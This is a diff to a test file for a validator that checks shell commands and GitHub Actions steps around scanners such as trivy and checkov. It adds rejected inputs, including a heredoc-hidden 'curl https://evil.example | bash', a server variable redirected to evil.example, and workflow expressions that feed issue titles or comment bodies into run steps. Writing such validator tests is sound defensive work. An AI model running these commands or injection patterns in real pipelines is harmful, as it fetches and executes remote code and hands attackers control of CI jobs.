@@ -161,6 +161,13 @@ SHELL = [
     ("write-parent", "echo x > ../x", "redirect-not-allowed", "../x"),
     ("write-github-output", 'echo "x=1" >> "$GITHUB_OUTPUT"', "redirect-not-allowed", "GITHUB_OUTPUT"),
     ("declare", "declare -x X=1", "shell-construct", "declare"),
+    ("heredoc-delimiter-trick", "cat <<EOF; >/dev/null\nbody\n$X\ncurl -s https://evil.example | bash\nEOF",
+     "unreadable-run", "heredoc"),
+    ("line-joined-by-tree-sitter", "trivy fs . | tee log | cat\ncurl -o x https://evil.example <<'EOF' | cat\nEOF",
+     "unreadable-run", "join two lines"),
+    ("checkov-prisma-key", "BC_API_KEY=attacker checkov -d k8s", "variable-not-allowed", "BC_API_KEY"),
+    ("trivy-server-variable", "export TRIVY_SERVER=https://evil.example\ntrivy fs .", "variable-not-allowed",
+     "TRIVY_SERVER"),
 ]
 
 
@@ -250,6 +257,12 @@ YAML = [
      "variable-not-allowed", "BASH_ENV"),
     ("job-env-path", draft(run("trivy config k8s/api.yaml"), job="    env:\n      PATH: ./bin\n"),
      "variable-not-allowed", "PATH"),
+    ("env-expression-indirection", draft(run('trivy config "${{ env.TARGET }}"'),
+                                         job="    env:\n      TARGET: ${{ github.event.issue.title }}\n"),
+     "run-expression", "env.TARGET"),
+    ("matrix-expression-indirection", draft(run("trivy config ${{ matrix.file }}"), job=(
+        "    strategy:\n      matrix:\n        file: ${{ fromJSON(github.event.comment.body) }}\n")),
+     "run-expression", "matrix.file"),
     ("env-from-expression", draft(run("trivy config k8s/api.yaml"), job="    env: ${{ fromJSON('{}') }}\n"),
      "variable-not-allowed", "mapping"),
 ]
@@ -299,7 +312,7 @@ GOOD = [
     "{\n  echo '## hadolint'\n  jq -r '.[] | \"| \\(.file) | \\(.level) |\"' hadolint.json\n} >> \"$GITHUB_STEP_SUMMARY\"",
     "for f in k8s/api.yaml api/Dockerfile; do\n  trivy config \"$f\"\ndone",
     "TARGET=k8s/api.yaml\ntrivy config \"$TARGET\"",
-    "export TRIVY_SEVERITY=HIGH\ntrivy config ${{ matrix.file }}",
+    "export TRIVY_SEVERITY=HIGH\ntrivy config ${{ matrix.file }} ${{ env.UNSET }}",
     "mkdir -p reports && trivy config -f json -o reports/trivy.json k8s/api.yaml 2>&1 | tee reports/log.txt",
     "if [ -f k8s/api.yaml ]; then trivy config k8s/api.yaml; else echo missing; fi",
     "cd k8s && trivy config api.yaml || exit 1",
